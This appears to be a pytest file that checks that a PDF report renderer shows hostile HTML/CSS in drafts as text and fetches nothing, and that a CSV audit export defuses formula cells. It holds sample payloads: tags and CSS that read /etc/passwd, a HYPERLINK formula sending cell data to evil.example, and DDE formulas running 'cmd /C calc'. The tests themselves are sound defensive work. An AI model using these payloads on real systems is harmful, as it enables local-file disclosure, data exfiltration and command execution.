"""Hostile text in the PDF compliance report (shown as text, nothing fetched) and in CSV exports (no formulas).

A loopback HTTP server records every request made to it: the report over
hostile drafts must make none, and must not read a local file either. A
control render with WeasyPrint's default fetcher proves the recorder does
see a fetch when one happens, so "no hits" means something.
"""

from __future__ import annotations

import csv
import io
import re
import threading
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import payloads
import pytest
from pypdf import PdfReader

from fixtures_workflow import BLOCKED_TEXT
from reviewer.audit.export import FORMULA_STARTS


@pytest.fixture
def recorder() -> Iterator[SimpleNamespace]:
    """A loopback HTTP server on a free port that records each request's path and answers a 1x1 PNG."""
    hits: list[str] = []
    pixel = bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
    )

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # http.server's name
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png" if self.path.endswith(".png") else "text/css")
            self.end_headers()
            self.wfile.write(pixel if self.path.endswith(".png") else b"p { color: red }")

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield SimpleNamespace(url=f"http://127.0.0.1:{server.server_port}", hits=hits)
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def _fetching_markup(base: str) -> str:
    return (
        f'<img src="file:///etc/passwd"> <img src="{base}/pixel.png"> <link rel="stylesheet" href="{base}/sheet.css"> '
        f'<style>@import url("{base}/import.css"); p {{ background: url({base}/bg.png) }}</style> '
        f'<object data="{base}/object.png"></object> <iframe src="file:///etc/hostname"></iframe>'
    )


def _pdf_text(pdf: bytes) -> str:
    return re.sub(r"\s+", " ", "\n".join(page.extract_text() or "" for page in PdfReader(io.BytesIO(pdf)).pages))


@pytest.mark.slow
def test_the_report_over_hostile_drafts_shows_them_as_text_and_fetches_nothing(
    db_session, make_user, make_account, make_inbound, checker, recorder
) -> None:
    from reviewer.drafting.services import create_draft
    from reviewer.reports.data import build_report
    from reviewer.reports.pdf import LockedFetcher, render_pdf

    world = payloads.build(db_session, make_user, make_account, make_inbound, checker)
    fetching = _fetching_markup(recorder.url)
    blocked = create_draft(db_session, world.staff, checker, world.account, BLOCKED_TEXT + " " + fetching)
    db_session.commit()
    assert blocked.decision == "block"
    now = datetime.now(timezone.utc)
    data = build_report(
        db_session, since=now - timedelta(days=1), until=now + timedelta(minutes=1), agency=payloads.SHORT,
        generated_by=payloads.SHORT,
    )
    fetcher = LockedFetcher()
    pdf = render_pdf(data, fetcher=fetcher)
    assert pdf.startswith(b"%PDF-")
    assert fetcher.refused == [], "the escaped report asked for a URL: some user text became markup"
    assert recorder.hits == []
    text = _pdf_text(pdf)
    for shown in ('<img src="file:///etc/passwd">', f"{recorder.url}/pixel.png", "@import url(", payloads.SHORT_MARKER):
        assert shown in text, f"not shown as text in the PDF: {shown!r}"


def test_raw_markup_reaching_weasyprint_reads_no_file_and_calls_no_host(recorder, tmp_path) -> None:
    """The locked fetcher, proven: with the same markup the default fetcher calls the server; the locked one does not."""
    from weasyprint import CSS, HTML

    from reviewer.reports.pdf import LockedFetcher

    html = f"<p>report</p>{_fetching_markup(recorder.url)}"
    HTML(string=html, base_url=str(tmp_path)).write_pdf()  # WeasyPrint's own fetcher: the control
    assert any(hit.endswith("pixel.png") for hit in recorder.hits), "the control render made no request: the recorder is broken"
    recorder.hits.clear()
    fetcher = LockedFetcher()
    css = CSS(string=f'@import url("{recorder.url}/x.css"); @font-face {{ font-family: X; src: url(file:///etc/passwd) }}', url_fetcher=fetcher)
    pdf = HTML(string=html, url_fetcher=fetcher, base_url=None).write_pdf(stylesheets=[css])
    assert pdf.startswith(b"%PDF-")
    assert recorder.hits == []
    refused = set(fetcher.refused)
    assert "file:///etc/passwd" in refused and f"{recorder.url}/pixel.png" in refused and f"{recorder.url}/sheet.css" in refused
    assert all(not url.startswith("data:") for url in refused)
    assert b"root:" not in pdf  # /etc/passwd's first line never made it in


# --- CSV --------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_the_web_csv_export_defuses_every_formula_cell(secure_app, make_user, web_as, db_session) -> None:
    """Actor names and subjects are the cells a value can start; each formula lead is defused and the value kept."""
    from reviewer.audit import record

    auditor = make_user("csv-auditor", roles=["auditor"])
    db_session.commit()
    for n, formula in enumerate(FORMULAS):
        record(db_session, SimpleNamespace(id=100 + n, username=formula), "test.formula", formula, {"text": formula, "n": n})
    db_session.commit()
    web = web_as(auditor)
    response = web.post("/audit/export", {"format": "csv"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    formula_rows = [dict(zip(header, row, strict=True)) for row in body if row[header.index("action")] == "test.formula"]
    assert [row["actor_name"] for row in formula_rows] == ["'" + f for f in FORMULAS]
    assert [row["subject"] for row in formula_rows] == ["'" + f for f in FORMULAS]


@pytest.mark.parametrize("lead", FORMULA_STARTS)
def test_each_formula_lead_is_defused(lead: str) -> None:
    from reviewer.audit.export import safe_cell

    assert safe_cell(lead + "cmd") == "'" + lead + "cmd"
    assert safe_cell("cmd" + lead) == "cmd" + lead
